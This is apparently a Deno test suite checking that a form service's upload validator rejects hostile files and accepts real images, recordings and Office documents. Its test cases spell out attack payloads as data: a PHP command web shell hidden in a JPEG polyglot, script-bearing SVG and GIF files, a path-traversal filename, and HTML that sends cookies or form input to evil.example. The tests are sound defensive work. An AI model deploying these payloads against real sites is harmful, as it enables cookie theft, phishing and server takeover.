import assert from "node:assert/strict";
import type { FileRef, FormDefinition } from "@/lib/schemas.ts";
import { fileKey, incomingKey } from "@/lib/uploads/grants.ts";
import { makeForm, makeWorkspace } from "@/tests/helpers.ts";
import {
  assertFileError,
  concat,
  DRIVERS,
  enc,
  exeBytes,
  FILES_FORM,
  type Grant,
  grantFor,
  putBytes,
  requestUpload,
  SAMPLES,
  storedSubmission,
  submitFiles,
  uploadEnv,
} from "@/tests/upload_fixtures.ts";
import { cfbBytes, DOCX, mp4Audio, PLAIN_ZIP, webmAudio } from "@/tests/upload_samples.ts";

for (const driver of DRIVERS) {
  Deno.test(`uploads (${driver}) - the hostile corpus is refused`, async (t) => {
    const u = await uploadEnv(driver);
    try {
      const ws = await makeWorkspace(u.deps, "pro");
      const form = await makeForm(u.deps, ws, FILES_FORM);

      await t.step(
        "the hostile corpus is never accepted where the type does not match",
        async () => {
          const cases: [string, string, string, string, Uint8Array, boolean][] = [
            // [what, field, declared type, file name, bytes, accepted]
            ["PNG-declared text", "fld_photo", "image/png", "a.png", enc("just some text"), false],
            [
              "SVG with script",
              "fld_photo",
              "image/png",
              "a.svg",
              enc('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
              false,
            ],
            [
              "SVG as text",
              "fld_cv",
              "text/plain",
              "a.txt",
              enc('<svg onload="alert(1)"></svg>'),
              false,
            ],
            [
              "GIF/JS polyglot",
              "fld_photo",
              "image/gif",
              "a.gif",
              concat(SAMPLES.gif, enc("*/=1;<script>alert(1)</script>")),
              false,
            ],
            [
              "JPEG/PHP polyglot",
              "fld_photo",
              "image/jpeg",
              "a.jpg.php",
              concat(SAMPLES.jpg, enc("<?php system($_GET['c']); ?>")),
              false,
            ],
            [
              ".jpg.php with PHP",
              "fld_photo",
              "image/jpeg",
              "shell.jpg.php",
              enc("<?php echo 1; ?>"),
              false,
            ],
            [
              "HTML as CSV",
              "fld_cv",
              "text/csv",
              "a.csv",
              enc("a,b\n<html><body>x</body></html>\n"),
              false,
            ],
            ["text with NUL", "fld_cv", "text/plain", "a.txt", enc("abc\u0000def"), false],
            [
              "invalid UTF-8",
              "fld_cv",
              "text/plain",
              "a.txt",
              new Uint8Array([0x61, 0xff, 0xfe, 0x62]),
              false,
            ],
            ["PNG declared PDF", "fld_cv", "application/pdf", "a.pdf", SAMPLES.png, false],
            ["executable", "fld_any", "application/octet-stream", "setup.exe", exeBytes(), false],
            [
              "real JPEG named .jpg.php",
              "fld_photo",
              "image/jpeg",
              "shell.jpg.php",
              SAMPLES.jpg,
              true,
            ],
            [
              "PNG with NUL and traversal in its name",
              "fld_photo",
              "image/png",
              "../../etc/pass\u0000wd.png",
              SAMPLES.png,
              true,
            ],
            ["plain CSV", "fld_cv", "text/csv", "ok.csv", SAMPLES.text, true],
            // The whole file is scanned, not only the first 256 KiB.
            [
              "markup after 300 KiB of text",
              "fld_cv",
              "text/plain",
              "long.txt",
              enc("ok line\n".repeat(300 * 128) + "<script>alert(1)</script>\n"),
              false,
            ],
            [
              "PHP after 300 KiB of a PNG",
              "fld_photo",
              "image/png",
              "long.png",
              concat(SAMPLES.png, new Uint8Array(300 * 1024).fill(0x20), enc("<?php echo 1;")),
              false,
            ],
            // HTML that steers a browser without <script>: every such tag and attribute.
            ...[
              '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
              '<p>Invoice</p><a href="https://evil.example/login">Pay here</a>',
              '<base href="https://evil.example/">',
              '<link rel="stylesheet" href="https://evil.example/x.css">',
              "<style>body{background:url(//evil.example/t)}</style>",
              '<form action="https://evil.example/steal"><input name=p></form>',
              "<a>plain link text</a>",
              "<div\nonmouseover = alert(1)>hover</div>",
            ].map((html): [string, string, string, string, Uint8Array, boolean] => [
              `markup ${html.slice(0, 24)}`,
              "fld_cv",
              "text/plain",
              "invoice.txt",
              enc(`Dear customer,\n${html}\n`),
              false,
            ]),
            [
              "an event handler after 300 KiB of text",
              "fld_cv",
              "text/plain",
              "long.txt",
              enc("ok line\n".repeat(300 * 128) + "<img src=x onerror=alert(1)>\n"),
              false,
            ],
            [
              "text that only mentions tags and handlers",
              "fld_cv",
              "text/plain",
              "notes.txt",
              enc("a<b, c>d; the formula <formula> and <areas>; on=1; onerror = x\n"),
              true,
            ],
            [
              "400 KiB of clean text",
              "fld_cv",
              "text/plain",
              "clean.txt",
              enc("a < b, x <= y: scripture\n".repeat(16_000)),
              true,
            ],
          ];
          for (const [what, fieldId, type, name, bytes, accepted] of cases) {
            const res = await requestUpload(u, form.id, {
              fieldId,
              fileName: name,
              contentType: type,
              sizeBytes: bytes.byteLength,
            });
            assert.equal(res.status, 200, what);
            const g: Grant = await res.json();
            // The path is the server's own (form id / random id): nothing of the client's name,
            // no dots, slashes or NULs ("php" may occur by chance in a random id, so the test
            // checks the shape, not substrings).
            assert.match(g.path, new RegExp(`^${form.id}/[0-9A-Za-z]{30,60}$`), what);
            await putBytes(u, g, bytes, type);
            const field = fieldId === "fld_photo" ? "photo" : fieldId === "fld_cv" ? "cv" : "any";
            const r = await submitFiles(u, form.id, { [field]: { path: g.path } });
            if (!accepted) {
              assertFileError(r, field);
              assert.equal(await u.deps.storage.head(fileKey(g.path)), null, what);
              assert.equal(await u.deps.storage.head(incomingKey(g.path)), null, what);
              continue;
            }
            assert.equal(r.status, 201, `${what}: ${JSON.stringify(r.body)}`);
            const ref = (await storedSubmission(u, form.id, r.body.submission_id))
              .fields[field] as FileRef;
            assert.equal(ref.mimeType, type, what);
            assert.ok(
              !/[\0/\\]/.test(ref.originalFilename) && !ref.originalFilename.startsWith("."),
              what,
            );
          }
        },
      );
    } finally {
      await u.close();
    }
  });
}

const OFFICE = ["application/msword", "application/vnd.ms-excel", "application/vnd.ms-powerpoint"];
const DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const MEDIA_FORM: FormDefinition = {
  name: "Voice notes",
  fields: [
    { id: "fld_voice", name: "voice", type: "audio" },
    { id: "fld_doc", name: "doc", type: "file", allowedTypes: [...OFFICE, DOCX_TYPE] },
  ],
};

for (const driver of DRIVERS) {
  Deno.test(`uploads (${driver}) - recordings and Office files in generic containers`, async () => {
    const u = await uploadEnv(driver);
    try {
      const ws = await makeWorkspace(u.deps, "pro");
      const form = await makeForm(u.deps, ws, MEDIA_FORM);
      const cases: [string, string, string, Uint8Array][] = [
        ["Chrome recording (WebM)", "fld_voice", "audio/webm", webmAudio()],
        ["Safari recording (isom MP4)", "fld_voice", "audio/mp4", mp4Audio()],
        ["legacy .doc", "fld_doc", OFFICE[0], cfbBytes()],
        ["legacy .xls", "fld_doc", OFFICE[1], cfbBytes()],
        ["legacy .ppt", "fld_doc", OFFICE[2], cfbBytes()],
        [".docx", "fld_doc", DOCX_TYPE, DOCX],
        [".docx seen only as ZIP", "fld_doc", DOCX_TYPE, PLAIN_ZIP],
      ];
      for (const [what, fieldId, type, bytes] of cases) {
        const g = await grantFor(u, form.id, fieldId, "f", type, bytes.byteLength);
        assert.equal(await putBytes(u, g, bytes, type), 200, what);
        const name = fieldId === "fld_voice" ? "voice" : "doc";
        const r = await submitFiles(u, form.id, { [name]: { path: g.path } });
        assert.equal(r.status, 201, `${what}: ${JSON.stringify(r.body)}`);
        const ref = (await storedSubmission(u, form.id, r.body.submission_id)).fields[name];
        assert.equal((ref as FileRef).mimeType, type, what);
      }
      // The container never stands in for a type the field does not take.
      const g = await grantFor(u, form.id, "fld_voice", "v", "audio/mpeg", webmAudio().byteLength);
      await putBytes(u, g, webmAudio(), "audio/mpeg");
      assertFileError(await submitFiles(u, form.id, { voice: { path: g.path } }), "voice");
    } finally {
      await u.close();
    }
  });
}
